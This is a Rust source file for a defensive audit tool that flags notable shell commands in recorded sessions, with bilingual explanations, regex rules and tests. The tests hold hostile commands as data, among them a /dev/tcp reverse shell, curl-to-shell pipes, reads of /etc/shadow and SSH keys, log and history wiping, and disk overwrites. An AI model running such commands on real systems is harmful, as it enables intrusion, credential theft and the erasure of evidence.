//! Commands an auditor reads first: a table of rules, each with why it matters.
//!
//! A rule is a pattern over the text of one command, or its user. It says what was typed, never what it meant: the list
//! sends the reader to a place, it accuses nobody. The tests below hold commands on which each rule speaks and commands on
//! which it stays silent. No I/O, no clock.

use std::sync::LazyLock;

use regex::Regex;
use regex::RegexSet;

macro_rules! acts {
    ($($(#[$doc:meta])* $act:ident, $name:literal, $says:expr, $why:expr;)*) => {
        /// What kind of act a rule speaks of.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
        pub enum Act {
            $($(#[$doc])* $act,)*
        }

        impl Act {
            /// All of them, in the order of a report.
            pub const ALL: [Self; [$($name),*].len()] = [$(Self::$act),*];

            /// The word in outputs, in lower case with hyphens.
            pub fn name(self) -> &'static str {
                match self {
                    $(Self::$act => $name,)*
                }
            }

            /// English and Japanese.
            pub fn says(self) -> (&'static str, &'static str) {
                match self {
                    $(Self::$act => $says,)*
                }
            }

            /// Why an auditor looks, in English and Japanese.
            pub fn why(self) -> (&'static str, &'static str) {
                match self {
                    $(Self::$act => $why,)*
                }
            }
        }
    };
}

// Each act with its name, what it is, and why an auditor looks.
acts! {
    /// Root, or what amounts to it: a root shell, one command as root, a setuid bit, a container left.
    BecameRoot, "became-root", ("Became root", "root になった"),
        ("From here on nothing on the machine was out of reach, the record included.",
         "ここから先は、記録を含め、この機械のすべてに手が届きます。");
    /// Another user's name or another AWS identity was taken.
    ChangedUser, "changed-user", ("Changed users", "ユーザーを切り替えた"),
        ("What follows was done under another name than the one that logged in.",
         "以後の操作は、ログインした名前とは別の名前で行われています。");
    /// History, logs, the agent or AWS's own records were stopped, changed or erased.
    TouchedAudit, "touched-audit", ("Touched the record", "記録に触れた"),
        ("Logging, history or the agent was stopped, changed or erased: what is not here may have happened.",
         "ログ、履歴、エージェントが止められ、変えられ、消されています。ここにないことも起きたかもしれません。");
    /// A user, a key, a tunnel, a listener, a schedule or a firewall rule was made or changed.
    OpenedWayIn, "opened-way-in", ("Opened a way in", "入り口を作った"),
        ("A user, a key, a listener or a scheduled job outlives the session.",
         "ユーザー、鍵、待ち受け、定期実行は、セッションの後も残ります。");
    /// Something was fetched and handed to an interpreter.
    DownloadedAndRan, "downloaded-and-ran", ("Downloaded and ran", "ダウンロードして実行した"),
        ("Code from elsewhere ran without being kept: what it was can only be asked of its source.",
         "外から来たコードが、残されずに実行されました。中身は取得元に尋ねるしかありません。");
    /// Files or stores that hold secrets, or the instance's credentials, were looked at.
    ReadSecrets, "read-secrets", ("Read secrets", "秘密を読んだ"),
        ("Keys, passwords or tokens were in view, and may have to be changed.",
         "鍵、パスワード、トークンが見える状態になりました。変更が必要かもしれません。");
    /// Data was copied to another place.
    MovedOut, "moved-out", ("Moved data out", "データを持ち出した"),
        ("Data left the machine for another place.",
         "データがこの機械から別の場所へ移されました。");
    /// Many files, a disk, data or infrastructure were deleted or overwritten.
    Deleted, "deleted", ("Deleted or destroyed", "削除・破壊した"),
        ("What was there before cannot be looked at any more.",
         "以前あったものは、もう確かめられません。");
}

/// One rule.
pub struct Rule {
    /// Stable name of the rule, as `sudo-shell`.
    pub id: &'static str,
    /// The kind of act that it speaks of.
    pub act: Act,
    /// What the command did, in English.
    pub title: &'static str,
    /// What the command did, in Japanese.
    pub title_ja: &'static str,
    pattern: &'static str,
}

/// Where a program's name may stand: first, behind an operator, or behind what runs another program.
macro_rules! at {
    ($rest:expr) => {
        concat!(
            r"(?m)(?:^\s*|[;&|(]\s*|\b(?:sudo|doas|nohup|exec|xargs)\s+(?:-[A-Za-z-]+(?:[= ][^\s-]\S*)?\s+)*)(?:[A-Z_]+=\S+\s+)*(?:/(?:usr/)?s?bin/)?",
            $rest
        )
    };
}

/// All rules, those of one act together, in the order of [`Act::ALL`].
pub const RULES: &[Rule] = &[
    Rule {
        id: "sudo-shell",
        act: Act::BecameRoot,
        title: "opened a root shell",
        title_ja: "root シェルを開いた",
        pattern: at!(
            r"(?:(?:sudo|doas)\s+(?:-[EHnS]\s+|-u\s*root\s+)*(?:(?:-[EHnS]*[is][EHnS]*|--login|--shell)|su(?:\s+(?:-l?|--login))?(?:\s+root)?|(?:/(?:usr/)?bin/)?(?:ba|z|k|da|fi)?sh(?:\s+-[il]+)*)|su(?:\s+(?:-l?|--login))?(?:\s+root)?|pkexec(?:\s+--user\s+root)?(?:\s+(?:/(?:usr/)?bin/)?(?:ba|z|k|da|fi)?sh(?:\s+-[il]+)*)?)\s*(?:$|[;&|)])"
        ),
    },
    Rule {
        id: "sudo-command",
        act: Act::BecameRoot,
        title: "ran one command as root",
        title_ja: "一つのコマンドを root で実行した",
        // Whoever goes on as another user than root did nothing else as root: any word but `su`.
        pattern: at!(
            r"(?:(?:sudo|doas)\s+(?:-[EHnS]\s+|-u\s*root\s+)*(?:[^-\ss]|s(?:[^u\s]|\s|$|u[^\s])|su\s+(?:-\s+|-l\s+)?-c)|pkexec\s+(?:--user\s+root\s+)?[^-\s])"
        ),
    },
    Rule {
        id: "setuid",
        act: Act::BecameRoot,
        title: "set a setuid bit or a capability",
        title_ja: "setuid ビットまたはケーパビリティを付けた",
        pattern: at!(
            r"(?:chmod\s+(?:-\S+\s+)*(?:[0-7]*[4-7][0-7]{3}|[ugoa]*[+=][rwx]*s)\s|setcap\s)"
        ),
    },
    Rule {
        id: "nsenter",
        act: Act::BecameRoot,
        title: "left a container or entered another's namespaces",
        title_ja: "コンテナーの外へ出た、または他の名前空間に入った",
        pattern: at!(r"(?:nsenter\s|docker\s+run\s[^\n]*(?:--privileged|-v\s*/:)|chroot\s)"),
    },
    Rule {
        id: "other-user",
        act: Act::ChangedUser,
        title: "acted as another user",
        title_ja: "別のユーザーとして操作した",
        pattern: at!(
            r"(?:(?:sudo|doas)\s+(?:-[iEHn]\s+)*(?:-u|--user)[ =]?\s*[^\s-]|pkexec\s+--user\s|su\s+(?:-l?\s+|--login\s+|-\s*)?[a-z_][a-z0-9_-]*|runuser\s)"
        ),
    },
    Rule {
        id: "assume-role",
        act: Act::ChangedUser,
        title: "took another AWS identity",
        title_ja: "別の AWS の身元を使った",
        pattern: r"\baws\s+(?:--?\S+\s+\S+\s+)*sts\s+(?:assume-role|get-session-token|get-federation-token)|\bexport\s+AWS_(?:ACCESS_KEY_ID|PROFILE|SESSION_TOKEN)=",
    },
    Rule {
        id: "history",
        act: Act::TouchedAudit,
        title: "cleared or switched off the shell's history",
        title_ja: "シェルの履歴を消した、または止めた",
        pattern: r"\bhistory\s+-[cdw]|\bunset\s+HIST|HIST(?:FILE|SIZE|FILESIZE)=(?:/dev/null|0\b|$|\s)|\bset\s+\+o\s+history|(?:rm|shred|truncate|ln|>)\s[^\n]*\.(?:bash|zsh|sh|fish|python|mysql|psql)_?history",
    },
    Rule {
        id: "logging",
        act: Act::TouchedAudit,
        title: "stopped, changed or erased logging",
        title_ja: "ログを止めた、変えた、消した",
        pattern: at!(
            r"(?:auditctl\s+-[eDd]|(?:systemctl|service)\s+(?:--?\S+\s+)*(?:stop|disable|mask|kill)\s+(?:--?\S+\s+)*\S*(?:audit|rsyslog|syslog|journald|falco|osquery|cloudwatch|crowdstrike|falcon|wazuh|ossec)|service\s+\S*(?:audit|syslog)\S*\s+stop|setenforce\s+0|(?:pkill|killall)\s+(?:-\S+\s+)*\S*(?:auditd|rsyslog|syslog|falco|cloudwatch)|kill\s+(?:-[1-9A-Za-z]\S*\s+(?:[A-Z]+\s+)?)?[^\s-][^\n;|&]*(?:pgrep|pidof|pid)[^\n;|&]*(?:auditd|rsyslog|syslog|journald|falco|osquery|cloudwatch)|journalctl\s[^\n]*--vacuum|(?:rm|shred|truncate|cp\s+/dev/null)\s[^\n]*/var/log/|sed\s+-i[^\n]*/var/log/)|>\s*/var/log/\S+"
        ),
    },
    Rule {
        id: "ssm-agent",
        act: Act::TouchedAudit,
        title: "touched the agent that records this",
        title_ja: "この記録を行うエージェントに触れた",
        pattern: r"\b(?:systemctl|service|snap|initctl)\s[^\n]*(?:stop|disable|mask|remove|kill|restart)[^\n]*amazon-ssm-agent|amazon-ssm-agent\s+stop|\b(?:kill|pkill|killall|rm|yum|dnf|apt|apt-get|rpm|dpkg)\s[^\n]*(?:amazon-ssm-agent|ssm-session|ssm-agent)|\b(?:kill|pkill|killall)\s[^\n]*\bscript\b|\b(?:vim?|nano|tee|sed\s+-i|rm|cp)\s[^\n]*(?:/etc/amazon/ssm|seelog\.xml)",
    },
    Rule {
        id: "aws-audit",
        act: Act::TouchedAudit,
        title: "changed AWS's own records or where sessions are kept",
        title_ja: "AWS 自身の記録、またはセッションの保存先を変えた",
        pattern: r"\baws\s[^\n]*(?:cloudtrail\s+(?:stop-logging|delete-trail|update-trail|put-event-selectors)|logs\s+(?:delete-log-(?:group|stream)|put-retention-policy|delete-retention-policy)|s3api\s+(?:put-bucket-(?:lifecycle-configuration|versioning|policy)|delete-bucket-policy|delete-bucket)|s3\s+rb\s|ssm\s+(?:update-document|delete-document|update-document-default-version)|kms\s+(?:schedule-key-deletion|disable-key)|guardduty\s+delete|configservice\s+(?:stop|delete))",
    },
    Rule {
        id: "users",
        act: Act::OpenedWayIn,
        title: "made, changed or unlocked a user",
        title_ja: "ユーザーを作成・変更・解除した",
        pattern: at!(
            r"(?:useradd|adduser|usermod|groupmod|gpasswd|chpasswd|visudo|passwd(?:\s+-\S+)*\s+[a-z_]|aws\s+iam\s+(?:create|attach|put|add)-)|(?:>>?|tee\s+(?:-a\s+)?)\s*/etc/(?:passwd|shadow|sudoers)"
        ),
    },
    Rule {
        id: "keys",
        act: Act::OpenedWayIn,
        title: "changed who may log in by key",
        title_ja: "鍵でログインできる者を変えた",
        pattern: r"(?:>>?|\btee\b|\bcp\b|\bmv\b|\bvim?\b|\bnano\b|\bsed\s+-i)[^\n]*authorized_keys|\bssh-copy-id\b|(?:\btee\b|\bvim?\b|\bnano\b|\bsed\s+-i|>>?)[^\n]*/etc/ssh/sshd_config",
    },
    Rule {
        id: "listener",
        act: Act::OpenedWayIn,
        title: "opened a tunnel, a listener or a reverse shell",
        title_ja: "トンネル、待ち受け、リバースシェルを開いた",
        pattern: r"/dev/tcp/|\b(?:nc|ncat|netcat)\s[^\n]*(?:-[a-z]*[elc]|--exec|--listen)|\bsocat\s|\bssh\s(?:[^\n]*\s)?-[NfTqC]*[RLDw]\s*\S|\b(?:ngrok|chisel|frpc|cloudflared)\s|python[23.]*\s+-m\s+(?:http\.server|SimpleHTTPServer)|\bpty\.spawn|\bmkfifo\s[^\n]*(?:nc|sh)\b",
    },
    Rule {
        id: "persistence",
        act: Act::OpenedWayIn,
        title: "scheduled something or changed what starts",
        title_ja: "定期実行や自動起動を変えた",
        pattern: at!(
            r"(?:crontab\s+(?:-e|-r|[^-\s])|at\s+(?:now|\d)|systemctl\s+(?:--?\S+\s+)*enable|update-rc\.d|chkconfig\s+\S+\s+on|ld\.so\.preload)|(?:>>?|\btee\b(?:\s+-a)?|\bcp\b[^\n]*|\bvim?\b|\bnano\b)\s+\S*(?:/etc/cron|/var/spool/cron|/etc/systemd/system|/etc/rc\.local|/etc/profile|/etc/ld\.so\.preload|\.bashrc|\.profile)|\|\s*crontab\s+-"
        ),
    },
    Rule {
        id: "firewall",
        act: Act::OpenedWayIn,
        title: "changed the firewall or a security group",
        title_ja: "ファイアウォールまたはセキュリティグループを変えた",
        pattern: at!(
            r"(?:iptables\s+(?:-[ADIFPX]|--(?:append|delete|insert|flush))|nft\s+(?:add|delete|flush)|ufw\s+(?:allow|disable|delete)|firewall-cmd\s+[^\n]*--(?:add|remove)|aws\s+ec2\s+(?:authorize|revoke|modify)-security-group)"
        ),
    },
    Rule {
        id: "pipe-to-shell",
        act: Act::DownloadedAndRan,
        title: "fetched something and handed it to an interpreter",
        title_ja: "取得したものをインタープリターに渡した",
        pattern: r"(?:\bcurl|\bwget|\bfetch|\baws\s+s3\s+cp)\b(?:[^|;&\n'\x22]|'[^'\n]*'|\x22[^\x22\n]*\x22)*(?:\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:(?:ba|z|k|da|fi)?sh|python[23.]*|perl|ruby|node|php)\b|(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s+[^;&\n]*\+?x|(?:ba|z|da)?sh\s|\./|python[23.]*\s))|(?:\bsh|\bbash|\beval|\bsource|\.)\s+(?:-c\s+)?['\x22]?(?:<\(|\$\(|`)\s*(?:curl|wget)|\bpip3?\s+install\s[^\n]*(?:https?://|git\+)|base64\s+(?:-d|--decode)[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z)?sh",
    },
    Rule {
        id: "secret-files",
        act: Act::ReadSecrets,
        title: "looked at files that hold secrets",
        title_ja: "秘密を含むファイルを見た",
        pattern: r"(?m)\b(?:cat|less|more|head|tail|vim?|nano|view|strings|xxd|base64|cp|scp|grep|awk|sed|tar|zip|openssl)\b[^\n|;&]*(?:/etc/(?:shadow|gshadow|sudoers)|id_(?:rsa|dsa|ecdsa|ed25519)(?:\s|$)|\.pem(?:\s|$)|\.aws/credentials|\.env(?:\s|$|\.)|\.pgpass|\.my\.cnf|\.netrc|\.docker/config\.json|\.kube/config|/proc/\S+/environ|secrets?\.(?:ya?ml|json|env)|wp-config\.php|\.htpasswd)",
    },
    Rule {
        id: "secret-calls",
        act: Act::ReadSecrets,
        title: "asked a secret store or the instance's credentials",
        title_ja: "秘密の保管庫、またはインスタンスの認証情報に尋ねた",
        pattern: r"169\.254\.169\.254|169\.254\.170\.2|\baws\s[^\n]*(?:secretsmanager\s+get-secret-value|ssm\s+get-parameters?(?:-by-path)?\s[^\n]*--with-decryption|configure\s+export-credentials|kms\s+decrypt)|\bvault\s+(?:kv\s+get|read)\b|\bkubectl\s[^\n]*get\s+secrets?\b[^\n]*-o|\bgcloud\s[^\n]*print-access-token|\bprintenv\b|^\s*env\s*$",
    },
    Rule {
        id: "copy-out",
        act: Act::MovedOut,
        title: "copied data to another place",
        title_ja: "データを別の場所へ写した",
        pattern: at!(
            r"(?:scp\s[^\n]*\s\S+:\S*\s*$|rsync\s[^\n]*\s(?:\S+@)?[A-Za-z0-9._-]+:\S*\s*$|sftp\s|rclone\s+(?:copy|sync|move)|aws\s+s3\s+(?:cp|sync|mv)\s+(?:--\S+\s+)*[^s\s-]\S*\s+s3://|curl\s[^\n]*(?:-T\s|--upload-file|-F\s*\S*=@|-d\s*@|--data-binary\s*@)|tar\s[^\n|]*\|\s*(?:nc|ssh|curl)\b)|\b(?:pg_dump|mysqldump)\b[^\n]*\|\s*(?:nc|ssh|curl|aws)\b"
        ),
    },
    Rule {
        id: "delete",
        act: Act::Deleted,
        title: "deleted many things or overwrote a disk",
        title_ja: "まとめて削除した、またはディスクを上書きした",
        pattern: at!(
            r"(?:rm\s+(?:-\S+\s+)*-[a-zA-Z]*[rR]|rm\s+(?:-\S+\s+)*--recursive|find\s[^\n]*(?:-delete|-exec\s+rm)|shred\s|wipe\s|mkfs(?:\.\S+)?\s|wipefs\s|dd\s[^\n]*of=/dev/(?:sd|nvme|xvd|vd|hd|mmcblk|md\d|dm-|mapper/|disk/)|userdel\s|lvremove\s)|>\s*/dev/(?:sd|nvme|xvd|vd|hd|mmcblk|md\d|dm-|mapper/|disk/)"
        ),
    },
    Rule {
        id: "delete-data",
        act: Act::Deleted,
        title: "dropped data or infrastructure",
        title_ja: "データまたは基盤を削除した",
        pattern: r"(?i)\b(?:drop\s+(?:table|database|schema|user)|truncate\s+table|delete\s+from\s+\S+\s*;?\s*(?:['\x22]|$))|\bterraform\s+destroy|\bkubectl\s+[^\n]*\bdelete\s|\bhelm\s+(?:uninstall|delete)\s|\baws\s[^\n]*\b(?:terminate-instances|delete-(?:db-|stack|table|volume|snapshot|cluster|function|role|user|bucket)\S*)|\baws\s+s3\s+(?:rm|rb)\s[^\n]*--(?:recursive|force)|\bdocker\s+(?:system\s+prune|volume\s+rm|rm\s+-\S*f)|\bflushall\b",
    },
];

static SET: LazyLock<RegexSet> =
    LazyLock::new(|| RegexSet::new(RULES.iter().map(|it| it.pattern)).expect("constant patterns"));
/// A quick look that spares most commands the rules.
static WORDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)sudo|doas|pkexec|\bsu\b|ch(?:mod|root)|setcap|nsenter|docker|runuser|aws|hist|audit|log|journal|setenforce|kill|script|ssm|user|passwd|group|visudo|key|ssh|/dev/|\bnc|netcat|socat|ngrok|chisel|frpc|cloudflared|python|pty|fifo|cron|\bat\b|systemctl|service|rc\.|profile|bashrc|preload|iptables|\bnft|ufw|firewall|curl|wget|fetch|pip|base64|eval|source|shadow|id_|\.pem|\.env|environ|pgpass|my\.cnf|netrc|kube|secret|wp-config|htpasswd|vault|gcloud|printenv|^\s*env\s*$|169\.254|scp|rsync|sftp|rclone|tar\b|dump|\brm\b|find|shred|wipe|mkfs|\bdd\b|push|lvremove|drop|truncate|delete|destroy|helm|flushall|credentials|chkconfig|sudoers").expect("a constant pattern")
});

/// A rule's pattern, for those who look for it with their own means.
pub fn pattern(id: &str) -> Option<&'static str> {
    RULES.iter().find(|it| it.id == id).map(|it| it.pattern)
}

/// The rules that speak on a command, by their place in [`RULES`].
pub fn notable(command: &str) -> Vec<usize> {
    // A pasted book is no command line; what matters in it stands at its beginning.
    let most = command.char_indices().nth(16_384).map_or(command.len(), |it| it.0);
    let command = &command[..most];
    if !WORDS.is_match(command) {
        return Vec::new();
    }
    let mut found: Vec<usize> = SET.matches(command).into_iter().collect();
    // A root shell is said once.
    let of = |id: &str| RULES.iter().position(|it| it.id == id);
    if let (Some(shell), Some(one)) = (of("sudo-shell"), of("sudo-command"))
        && found.contains(&shell)
    {
        found.retain(|it| *it != one);
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Commands on which each rule speaks, and commands on which it stays silent.
    const EXAMPLES: &[(&str, &[&str], &[&str])] = &[
        (
            "sudo-shell",
            &[
                "sudo -i",
                "sudo su -",
                "su -",
                "su",
                "sudo bash",
                "cd /; sudo -s",
                "sudo -E -s",
                "sudo su - root",
                "sudo -u root bash",
                "sudo /bin/bash -l",
                "pkexec bash",
                "pkexec /bin/sh",
            ],
            &[
                "sudo systemctl restart nginx",
                "su - postgres",
                "summary",
                "sudo -u app ls",
                "echo sudo -i",
                "sudo su - ssm-user",
                "sudo -i -u postgres",
                "sudo -u postgres -i",
                "sudo su postgres -c psql",
                "pkexec --user app ls",
            ],
        ),
        (
            "sudo-command",
            &[
                "sudo systemctl restart nginx",
                "sudo cat /etc/shadow",
                "cat x | sudo tee /etc/hosts",
                "sudo sudoedit /etc/hosts",
                "sudo sh deploy.sh",
                "sudo su -c id",
                "pkexec systemctl stop nginx",
            ],
            &["sudo -l", "sudo -u app ls", "which sudo", "sudo su - ssm-user", "sudo su deploy"],
        ),
        (
            "setuid",
            &["chmod u+s /tmp/sh", "sudo chmod 4755 /usr/local/bin/x", "setcap cap_net_raw+ep ./a"],
            &["chmod 755 run.sh", "chmod +x a", "chmod 0644 a"],
        ),
        (
            "nsenter",
            &[
                "nsenter -t 1 -m -u -i -n sh",
                "docker run --privileged -it alpine",
                "sudo chroot /mnt",
            ],
            &["docker run nginx", "docker exec -it web sh"],
        ),
        (
            "other-user",
            &[
                "sudo -u postgres psql",
                "su - deploy",
                "su postgres -c psql",
                "runuser -u app ls",
                "sudo su - ssm-user",
            ],
            &["su", "su -", "sudo ls", "sudo useradd x"],
        ),
        (
            "assume-role",
            &[
                "aws sts assume-role --role-arn x",
                "export AWS_ACCESS_KEY_ID=AKIA",
                "aws --profile p sts assume-role",
            ],
            &["aws sts get-caller-identity", "export AWS_REGION=eu-west-1"],
        ),
        (
            "history",
            &[
                "history -c",
                "unset HISTFILE",
                "export HISTFILE=/dev/null",
                "HISTSIZE=0",
                "rm ~/.bash_history",
                "set +o history",
            ],
            &[
                "history",
                "history | grep ssh",
                "echo $HISTFILE",
                "HISTSIZE=10000",
                "cat ~/.bash_history",
            ],
        ),
        (
            "logging",
            &[
                "systemctl stop auditd",
                "systemctl disable --now auditd",
                "sudo service rsyslog stop",
                "auditctl -e 0",
                "rm -f /var/log/secure",
                "> /var/log/wtmp",
                "sudo setenforce 0",
                "journalctl --vacuum-time=1s",
                "pkill -9 auditd",
                "kill -9 $(pgrep auditd)",
                "sudo kill `pidof rsyslogd`",
            ],
            &[
                "systemctl status auditd",
                "kill -0 $(pidof auditd)",
                "tail -f /var/log/messages",
                "journalctl -u nginx",
                "systemctl stop nginx",
            ],
        ),
        (
            "ssm-agent",
            &[
                "sudo systemctl stop amazon-ssm-agent",
                "pkill -f ssm-session-worker",
                "yum remove -y amazon-ssm-agent",
                "sudo snap stop amazon-ssm-agent",
                "vi /etc/amazon/ssm/seelog.xml",
            ],
            &[
                "systemctl status amazon-ssm-agent",
                "tail /var/log/amazon/ssm/amazon-ssm-agent.log",
                "kill 4242",
            ],
        ),
        (
            "aws-audit",
            &[
                "aws cloudtrail stop-logging --name t",
                "aws logs delete-log-group --log-group-name g",
                "aws ssm update-document --name SSM-SessionManagerRunShell",
            ],
            &["aws cloudtrail describe-trails", "aws s3 ls", "aws logs tail g"],
        ),
        (
            "users",
            &[
                "sudo useradd -m eve",
                "usermod -aG wheel eve",
                "visudo",
                "echo x >> /etc/sudoers",
                "passwd root",
                "aws iam create-access-key",
            ],
            &["passwd", "cat /etc/passwd", "id eve", "aws iam list-users"],
        ),
        (
            "keys",
            &[
                "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
                "vi /home/a/.ssh/authorized_keys",
                "ssh-copy-id b@h",
                "sudo sed -i s/no/yes/ /etc/ssh/sshd_config",
            ],
            &["cat ~/.ssh/authorized_keys", "ls ~/.ssh", "grep Port /etc/ssh/sshd_config"],
        ),
        (
            "listener",
            &[
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                "nc -lvp 4444",
                "ssh -R 9000:localhost:22 h",
                "python3 -m http.server 8000",
                "socat TCP-LISTEN:1 EXEC:sh",
            ],
            &["nc -zv db 5432", "ssh deploy@host", "python3 -m venv .venv"],
        ),
        (
            "persistence",
            &[
                "crontab -e",
                "sudo systemctl enable backdoor",
                "echo x >> /etc/crontab",
                "cp a.service /etc/systemd/system/",
                "echo y >> ~/.bashrc",
                "echo '* * * * * x' | crontab -",
            ],
            &["crontab -l", "systemctl status cron", "cat /etc/crontab"],
        ),
        (
            "firewall",
            &[
                "sudo iptables -F",
                "ufw disable",
                "aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0",
                "firewall-cmd --add-port=4444/tcp",
            ],
            &["iptables -L -n", "ufw status", "firewall-cmd --list-all"],
        ),
        (
            "pipe-to-shell",
            &[
                "curl -fsSL https://get.x.sh | sh",
                "wget -qO- h | sudo bash",
                "bash <(curl -s h)",
                "curl -o a h && chmod +x a",
                "sh -c \"$(curl -fsSL h)\"",
                "echo aGk= | base64 -d | sh",
                "curl -s 'https://h/x?a=1&b=2' | sudo -E bash -",
                "wget -qO- h | /bin/bash",
            ],
            &[
                "curl -I https://example.com",
                "wget https://example.com/a.tgz",
                "curl -s h | jq .",
                "bash deploy.sh",
            ],
        ),
        (
            "secret-files",
            &[
                "cat /etc/shadow",
                "sudo less /root/.ssh/id_rsa",
                "cat ~/.aws/credentials",
                "grep KEY /srv/app/.env",
                "cat /proc/self/environ",
            ],
            &[
                "cat /etc/passwd",
                "ls -l ~/.ssh/id_rsa",
                "cat environment.md",
                "ssh -i key.pem host",
            ],
        ),
        (
            "secret-calls",
            &[
                "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "aws secretsmanager get-secret-value --secret-id p",
                "kubectl get secret db -o yaml",
                "vault kv get secret/app",
                "env",
            ],
            &["aws ssm get-parameter --name /a", "kubectl get secrets", "env FOO=1 make"],
        ),
        (
            "copy-out",
            &[
                "scp dump.sql eve@203.0.113.9:/tmp/",
                "aws s3 cp /tmp/db.sql s3://elsewhere/",
                "curl -F file=@db.sql h",
                "rsync -a /srv/ b@h:/x/",
                "tar cz /srv | ssh h cat",
            ],
            &["scp h:/etc/hosts .", "aws s3 cp s3://a/b .", "aws s3 ls", "curl -d a=1 h"],
        ),
        (
            "delete",
            &[
                "rm -rf /srv/old",
                "sudo rm -fr x",
                "find / -name '*.log' -delete",
                "dd if=/dev/zero of=/dev/sda",
                "cat image.bin > /dev/nvme0n1",
                "mkfs.ext4 /dev/sdb",
            ],
            &[
                "rm a.txt",
                "rm -f a",
                "echo rm -rf /",
                "find . -name a",
                "git push --force",
                "dd if=/dev/sda of=/dev/null",
                "id > /dev/null",
            ],
        ),
        (
            "delete-data",
            &[
                "psql -c 'DROP TABLE users'",
                "DELETE FROM users;",
                "kubectl delete pod web",
                "aws ec2 terminate-instances --instance-ids i-1",
                "aws s3 rm s3://b/ --recursive",
                "terraform destroy",
            ],
            &[
                "SELECT * FROM users;",
                "delete from users where id = 1;",
                "kubectl get pods",
                "aws s3 rm s3://b/one",
                "docker ps",
            ],
        ),
    ];

    fn ids(command: &str) -> Vec<&'static str> {
        notable(command).into_iter().map(|it| RULES[it].id).collect()
    }

    #[test]
    fn every_rule_speaks_on_its_own_examples_and_is_silent_on_the_others() {
        assert!(
            RULES.iter().map(|it| it.id).eq(EXAMPLES.iter().map(|it| it.0)),
            "one of each rule"
        );
        let mut wrong = Vec::new();
        for (id, speaks, silent) in EXAMPLES {
            let unsaid = speaks.iter().filter(|it| !ids(it).contains(id));
            wrong.extend(unsaid.map(|it| format!("{id} does not speak on {it}")));
            let said = silent.iter().filter(|it| ids(it).contains(id));
            wrong.extend(said.map(|it| format!("{id} speaks on {it}")));
            assert!(!speaks.is_empty() && !silent.is_empty(), "{id}");
        }
        assert_eq!(wrong, Vec::<String>::new());
    }

    #[test]
    fn the_table_is_in_order_and_every_act_has_a_rule() {
        let mut ids: Vec<&str> = RULES.iter().map(|it| it.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len(), "an id twice");
        assert!(RULES.is_sorted_by_key(|it| it.act), "the rules of an act stand together");
        for act in Act::ALL {
            assert!(RULES.iter().any(|it| it.act == act), "{act:?}");
        }
    }

    #[test]
    fn a_root_shell_is_said_once() {
        assert_eq!(ids("sudo bash"), ["sudo-shell"]);
        assert_eq!(ids("sudo ls"), ["sudo-command"]);
        assert!(ids("ls -l").is_empty());
    }
}
